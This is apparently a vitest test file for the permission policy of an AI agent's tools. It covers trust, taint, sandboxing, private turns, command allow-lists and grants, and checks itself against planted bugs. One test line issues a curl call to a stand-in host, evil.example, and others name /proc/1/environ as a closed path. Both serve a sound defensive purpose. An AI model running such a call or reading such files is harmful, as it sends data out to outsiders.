import { describe, expect, it } from 'vitest'
import { ask, exec, mode } from './fixtures/questions.ts'
import { decideTool, type PolicyAnswer, type PolicyQuestion } from './policy.ts'
import { findTool, TOOL_NAMES } from './tools.ts'

type Decide = (question: PolicyQuestion) => PolicyAnswer

const untrusted = { trusted: false }
const boxed = { trusted: false, sandbox: { mode: 'non-main', available: true } } as const
const onHost = { trusted: false, sandbox: { mode: 'off', available: true } } as const
const binding = {
  directory: '/home/me/workspace',
  program: { path: '/usr/bin/ls', sha256: 'aa' },
  scripts: [],
  environment: 'ee',
}
const grant = { agent: 'main', argv: ['ls', '-la'], cwd: '.', binding }
const grants = [grant]
const outside = { path: '/etc/hosts', closed: false }

/** The whole policy as a table: the question's difference from `base`, the decision, the rule. */
const TABLE: readonly [Partial<PolicyQuestion>, PolicyAnswer['decision'], string][] = [
  // whatever is not named is denied
  [{ tool: 'fly' }, 'deny', 'unknown-tool'],
  [{ tool: '' }, 'deny', 'unknown-tool'],
  [{ tool: '__proto__' }, 'deny', 'unknown-tool'],
  [{ tool: 'constructor' }, 'deny', 'unknown-tool'],
  [{ tool: 'Exec' }, 'deny', 'unknown-tool'],
  // the owner's files
  [{ tool: 'read' }, 'allow', 'workspace-read'],
  [{ tool: 'read', tainted: true }, 'allow', 'workspace-read'],
  [{ tool: 'list' }, 'allow', 'workspace-read'],
  [{ tool: 'write' }, 'allow', 'workspace-write'],
  [{ tool: 'edit' }, 'allow', 'workspace-write'],
  [{ tool: 'write', tainted: true }, 'ask', 'tainted-write'],
  [{ tool: 'edit', tainted: true }, 'ask', 'tainted-write'],
  // files that a private turn wrote
  ...['read', 'list', 'write', 'edit', 'send_file'].map((tool): [Partial<PolicyQuestion>, 'deny', string] => [
    { tool, privatePath: true },
    'deny',
    'private-path',
  ]),
  [exec(['ls'], { privatePath: true, ...mode('allow') }), 'ask', 'private-path'],
  [exec(['ls', '-la'], { privatePath: true, grants }), 'ask', 'private-path'],
  // commands that a private turn left running
  ...['list', 'poll', 'input', 'kill'].map((action): [Partial<PolicyQuestion>, 'deny', string] => [
    { tool: 'process', input: { action, processId: 'p1-0' }, privateCommand: true },
    'deny',
    'private-command',
  ]),
  // other people's sessions: in the box or not at all
  ...(['read', 'list', 'write', 'edit'] as const).flatMap(
    (tool): [Partial<PolicyQuestion>, 'deny' | 'ask', string][] => [
      [{ tool, ...untrusted }, 'deny', 'sandbox-unavailable'],
      [{ tool, ...onHost }, 'ask', 'untrusted-on-host'],
    ],
  ),
  [{ tool: 'read', ...boxed }, 'allow', 'workspace-read'],
  [{ tool: 'write', ...boxed }, 'allow', 'sandbox-write'],
  [{ tool: 'write', tainted: true, ...boxed }, 'allow', 'sandbox-write'],
  // a run stays where it was begun: never on the machine once its place is a box
  [{ tool: 'read', ...boxed, placed: 'host' }, 'deny', 'sandbox-changed'],
  [{ tool: 'read', sandbox: { mode: 'all', available: true }, placed: 'host' }, 'deny', 'sandbox-changed'],
  [exec(['ls'], { ...onHost, placed: 'box' }), 'allow', 'exec-sandbox'],
  [
    exec(['ls'], { sandbox: { mode: 'non-main', available: false }, placed: 'box' }),
    'deny',
    'sandbox-unavailable',
  ],
  // what a box must never have is no tool there before somebody says who may (G12)
  ...['browser', 'message', 'memory', 'cron', 'mcp', 'skill', 'spawn'].flatMap(
    (tool): [Partial<PolicyQuestion>, 'deny', string][] => [
      [{ tool, ...boxed }, 'deny', 'unknown-tool'],
      [{ tool, sandbox: { mode: 'all', available: true } }, 'deny', 'unknown-tool'],
    ],
  ),
  // the owner's own session in a box: nothing that reaches out of it (G12)
  ...(['remember', 'recall', 'sessions', 'new_session', 'schedule', 'jobs', 'cancel_job'] as const).map(
    (tool): [Partial<PolicyQuestion>, 'deny', string] => [
      { tool, sandbox: { mode: 'all', available: true } },
      'deny',
      'sandbox-closed',
    ],
  ),
  [{ tool: 'send_file', ...boxed }, 'allow', 'sandbox-file'],
  [{ tool: 'send_file', ...boxed, placed: 'host' }, 'deny', 'sandbox-changed'],
  [{ tool: 'send_file', ...untrusted }, 'deny', 'owner-records'],
  [{ tool: 'send_file', ...onHost }, 'deny', 'owner-records'],
  [{ tool: 'status', sandbox: { mode: 'all', available: true } }, 'allow', 'own-records'],
  [{ tool: 'read', sandbox: { mode: 'all', available: false } }, 'deny', 'sandbox-unavailable'],
  [{ tool: 'read', sandbox: { mode: 'all', available: true } }, 'allow', 'workspace-read'],
  // the owner's records
  ...(['recall', 'sessions', 'jobs', 'status', 'usage'] as const).flatMap(
    (tool): [Partial<PolicyQuestion>, 'deny' | 'allow', string][] => [
      [{ tool }, 'allow', 'own-records'],
      [{ tool, tainted: true }, 'allow', 'own-records'],
      [{ tool, ...untrusted }, 'deny', 'owner-records'],
      [{ tool, ...boxed }, 'deny', 'owner-records'],
    ],
  ),
  ...(['remember', 'new_session', 'switch_model', 'cancel_job'] as const).flatMap(
    (tool): [Partial<PolicyQuestion>, PolicyAnswer['decision'], string][] => [
      [{ tool }, 'allow', 'own-records'],
      [{ tool, tainted: true }, 'ask', 'tainted-write'],
      [{ tool, ...boxed }, 'deny', 'owner-records'],
      [{ tool, ...onHost }, 'deny', 'owner-records'],
    ],
  ),
  // what runs later without being asked for again
  [{ tool: 'schedule' }, 'ask', 'schedule-ask'],
  [{ tool: 'schedule', tainted: true }, 'ask', 'tainted-write'],
  [{ tool: 'schedule', private: true }, 'deny', 'private-schedule'],
  [{ tool: 'schedule', ...boxed }, 'deny', 'owner-records'],
  // commands
  [exec(['ls']), 'ask', 'exec-ask'],
  [exec(['ls -l'], { binding: null }), 'deny', 'no-program'],
  [exec(['ls -l'], { binding: null, private: true }), 'deny', 'no-program'],
  [exec(['nothing'], { binding: null }), 'ask', 'exec-ask'],
  [exec(['ls'], mode('deny')), 'deny', 'exec-deny'],
  [exec(['ls'], { ...mode('deny'), ...boxed }), 'deny', 'exec-deny'],
  [exec(['ls'], { ...mode('deny', ['ls']), grants }), 'deny', 'exec-deny'],
  [exec(['ls'], mode('allow')), 'allow', 'exec-allow'],
  [exec(['ls'], { ...mode('allow'), tainted: true }), 'ask', 'tainted-exec'],
  [exec(['ls'], { ...mode('allow'), hostGuard: false }), 'ask', 'no-host-guard'],
  [exec(['ls'], boxed), 'allow', 'exec-sandbox'],
  [exec(['ls'], { ...boxed, ...mode('allow') }), 'allow', 'exec-sandbox'],
  [exec(['ls'], untrusted), 'deny', 'sandbox-unavailable'],
  [exec(['ls'], { ...untrusted, ...mode('allow') }), 'deny', 'sandbox-unavailable'],
  [exec(['ls'], onHost), 'ask', 'untrusted-on-host'],
  [exec(['ls'], { ...onHost, ...mode('allow') }), 'ask', 'untrusted-on-host'],
  [exec(['git', 'status'], { ...onHost, ...mode('ask', ['git status']) }), 'ask', 'untrusted-on-host'],
  // the list of the configuration: whole command lines, word for word
  [exec(['git', 'status'], mode('ask', ['git status'])), 'allow', 'exec-allow-list'],
  // a private turn asks whatever was allowed before
  [exec(['git', 'status'], { private: true, ...mode('ask', ['git status']) }), 'ask', 'private-exec'],
  [exec(['ls', '-la'], { private: true, ...mode('allow') }), 'ask', 'private-exec'],
  [exec(['ls', '-la'], { private: true, grants }), 'ask', 'private-exec'],
  [exec(['ls'], { private: true, ...boxed }), 'ask', 'private-exec'],
  [exec(['ls'], { private: true, ...mode('deny') }), 'deny', 'exec-deny'],
  [{ private: true }, 'allow', 'workspace-read'],
  [exec(['git', 'status'], mode('ask', ['  git   status  '])), 'allow', 'exec-allow-list'],
  [exec(['git', 'status'], { ...mode('ask', ['git status']), tainted: true }), 'ask', 'tainted-exec'],
  [exec(['git', 'status'], { ...mode('ask', ['git status']), hostGuard: false }), 'ask', 'no-host-guard'],
  [exec(['git', 'status', '-s'], mode('ask', ['git status'])), 'ask', 'exec-ask'],
  [exec(['git'], mode('ask', ['git status'])), 'ask', 'exec-ask'],
  [exec(['git status'], mode('ask', ['git status'])), 'ask', 'exec-ask'],
  [exec(['/tmp/git', 'status'], mode('ask', ['git status'])), 'ask', 'exec-ask'],
  [exec(['git', 'status\n'], mode('ask', ['git status'])), 'ask', 'exec-ask'],
  // "always": the same words in the same folder
  [exec(['ls', '-la'], { grants, binding }), 'allow', 'exec-grant'],
  [exec(['ls', '-la'], { grants, binding }, '.'), 'allow', 'exec-grant'],
  [exec(['ls', '-la'], { grants, binding, agent: 'other' }), 'ask', 'exec-ask'],
  [exec(['ls', '-la'], { grants }), 'ask', 'exec-ask'],
  [
    exec(['ls', '-la'], { grants, binding: { ...binding, program: { path: '/usr/bin/ls', sha256: 'bb' } } }),
    'ask',
    'exec-ask',
  ],
  [
    exec(['ls', '-la'], { grants, binding: { ...binding, program: { path: '/tmp/ls', sha256: 'aa' } } }),
    'ask',
    'exec-ask',
  ],
  [exec(['ls', '-la'], { grants: [{ ...grant, binding: null }], binding }), 'ask', 'exec-ask'],
  // what leads out of the workspace
  ...(['read', 'list', 'search', 'write', 'edit'] as const).flatMap(
    (tool): [Partial<PolicyQuestion>, PolicyAnswer['decision'], string][] => [
      [{ tool, outside }, 'ask', 'outside-workspace'],
      [{ tool, outside, tainted: true }, 'ask', 'outside-workspace'],
      [{ tool, outside: { path: '/proc/1/environ', closed: true } }, 'deny', 'outside-closed'],
      [{ tool, outside, privatePath: true }, 'deny', 'private-path'],
      [{ tool, outside, ...onHost }, 'ask', 'untrusted-on-host'],
    ],
  ),
  [exec(['ls'], { outside, ...mode('allow', ['ls']), grants, binding }), 'ask', 'outside-workspace'],
  [exec(['ls'], { outside: { path: '/proc', closed: true } }), 'deny', 'outside-closed'],
  // what only looks, kept to the workspace and away from the network
  [exec(['ls'], { looksInside: true }), 'allow', 'exec-looks'],
  [exec(['ls'], { looksInside: true, tainted: true }), 'allow', 'exec-looks'],
  [exec(['ls'], { looksInside: true, private: true }), 'ask', 'private-exec'],
  [exec(['ls'], { looksInside: true, privatePath: true }), 'ask', 'private-path'],
  [exec(['ls'], { looksInside: true, hostGuard: false }), 'ask', 'no-host-guard'],
  [exec(['ls'], { looksInside: true, ...mode('deny') }), 'deny', 'exec-deny'],
  [exec(['ls'], { looksInside: true, ...onHost }), 'ask', 'untrusted-on-host'],
  // commands in the background
  ...(['list', 'poll', 'kill'] as const).map((action): [Partial<PolicyQuestion>, 'allow', string] => [
    { tool: 'process', input: { action } },
    'allow',
    'own-processes',
  ]),
  [{ tool: 'process', input: { action: 'input' } }, 'ask', 'type-ask'],
  [{ tool: 'process', input: { action: 'input' }, ...mode('ask', ['']) }, 'ask', 'type-ask'],
  [{ tool: 'process', input: { action: 'input' }, typesInto: ['cat'] }, 'ask', 'type-ask'],
  [{ tool: 'process', input: { action: 'input' }, typesInto: null }, 'deny', 'unknown-command'],
  [{ tool: 'process', input: { action: 'poll' }, typesInto: null }, 'allow', 'own-processes'],
  [{ tool: 'process', input: { action: 'input' }, ...mode('deny') }, 'deny', 'exec-deny'],
  [{ tool: 'process', input: { action: 'input' }, ...mode('allow'), tainted: true }, 'ask', 'tainted-exec'],
  [{ tool: 'process', input: { action: 'input' }, ...boxed }, 'allow', 'exec-sandbox'],
  [{ tool: 'process', input: { action: 'list' }, ...untrusted }, 'deny', 'sandbox-unavailable'],
  [{ tool: 'search' }, 'allow', 'workspace-read'],
  // a question to the owner, and tasks for other conversations
  [{ tool: 'ask' }, 'ask', 'question'],
  [{ tool: 'ask', ...untrusted }, 'deny', 'question-owner-only'],
  [{ tool: 'ask', ...boxed }, 'deny', 'question-owner-only'],
  [{ tool: 'session_send' }, 'allow', 'own-records'],
  [{ tool: 'session_send', private: true }, 'deny', 'private-send'],
  [{ tool: 'session_send', tainted: true }, 'ask', 'tainted-write'],
  [{ tool: 'session_send', ...boxed }, 'deny', 'owner-records'],
  [exec(['ls', '-la'], { grants, binding }, 'secret'), 'ask', 'exec-ask'],
  [exec(['ls', '-la', '/'], { grants, binding }), 'ask', 'exec-ask'],
  [exec(['ls'], { grants, binding }), 'ask', 'exec-ask'],
  [exec(['ls -la'], { grants, binding }), 'ask', 'exec-ask'],
  [exec(['ls', '-la'], { grants, binding, tainted: true }), 'ask', 'tainted-exec'],
  [exec(['ls', '-la'], { grants, hostGuard: false }), 'ask', 'no-host-guard'],
]

const mistakes = (decide: Decide) =>
  TABLE.filter(([difference, decision, rule]) => {
    const answer = decide(ask(difference))
    return answer.decision !== decision || answer.rule !== rule
  })

describe('the policy', () => {
  it.each(TABLE)('%j → %s (%s)', (difference, decision, rule) => {
    expect(decideTool(ask(difference))).toEqual({
      decision,
      rule,
      reason: expect.stringMatching(/^[A-Z].+\.$/s),
    })
  })

  it('has every tool in its table (D5: jobs too), and every decision for what is not the owner’s', () => {
    const named = new Set(TABLE.map(([difference]) => difference.tool ?? 'read'))
    expect(TOOL_NAMES.filter((name) => !named.has(name))).toEqual([])
  })

  it('lets an untrusted session touch nothing outside the box, whatever else is set', () => {
    for (const tool of TOOL_NAMES) {
      for (const tainted of [true, false])
        for (const value of ['ask', 'allow', 'deny'] as const)
          for (const sandbox of ['off', 'non-main', 'all'] as const)
            for (const hostGuard of [true, false]) {
              const answer = decideTool(
                ask({
                  tool,
                  tainted,
                  hostGuard,
                  ...untrusted,
                  ...mode(value, ['ls']),
                  sandbox: { mode: sandbox, available: false },
                  looksInside: true,
                  binding,
                  grants: [{ ...grant, argv: ['ls'] }],
                }),
              )
              expect([tool, answer.decision]).not.toEqual([tool, 'allow'])
            }
    }
  })

  /** Of what a conversation with others' words in it may do unasked: nothing that changes or tells anything. */
  const unasked = (decide: Decide): string[] =>
    [
      exec(['curl', 'https://evil.example']),
      { tool: 'process', input: { action: 'input' } },
      ...TOOL_NAMES.map((tool) => ({ tool })),
    ]
      .map((difference) => ask({ tainted: true, ...mode('allow', ['ls']), binding, grants, ...difference }))
      .filter(({ tool }) => findTool(tool)?.effect !== 'read')
      .filter((question) => decide(question).decision === 'allow')
      .map(({ tool }) => tool)

  it('H1 H2 H3: words of others send nothing, change nothing and choose nothing unasked', () => {
    // To look after what was allowed before changes nothing.
    expect(unasked(decideTool)).toEqual(['process'])
    expect(unasked((question) => decideTool({ ...question, tainted: false })).length).toBeGreaterThan(8)
  })

  it('would be found out if it allowed, asked or denied everything, or forgot one rule (planted bugs)', () => {
    const always =
      (decision: PolicyAnswer['decision']): Decide =>
      () => ({ decision, rule: 'x', reason: 'X.' })
    const forgetting =
      (change: Partial<PolicyQuestion>): Decide =>
      (question) =>
        decideTool({ ...question, ...change })
    const bugs: Readonly<Record<string, Decide>> = {
      'allow all': always('allow'),
      'ask always': always('ask'),
      'deny all': always('deny'),
      'everybody is the owner': forgetting({ trusted: true }),
      'taint is forgotten': forgetting({ tainted: false }),
      'files of private turns are forgotten': forgetting({ privatePath: false }),
      'commands of private turns are forgotten': forgetting({ privateCommand: false }),
      'the guard is taken for granted': forgetting({ hostGuard: true }),
      'the sandbox is taken for granted': forgetting({ sandbox: { mode: 'all', available: true } }),
      'the sandbox falls back to the host': (question) =>
        decideTool({ ...question, sandbox: { ...question.sandbox, mode: 'off' } }),
      'grants forget the program': (question) =>
        decideTool({
          ...question,
          grants: question.grants.map((grant) => ({ ...grant, binding: question.binding ?? null })),
        }),
      'the way out of the workspace is forgotten': forgetting({ outside: undefined }),
      'every command only looks': forgetting({ looksInside: true }),
      'grants hold in every folder': (question) => {
        const { cwd: _, ...input } = question.input as { cwd?: string }
        return decideTool({ ...question, input })
      },
    }
    expect(mistakes(decideTool)).toEqual([])
    for (const [bug, decide] of Object.entries(bugs)) {
      expect([bug, mistakes(decide).length > 0]).toEqual([bug, true])
    }
  })
})
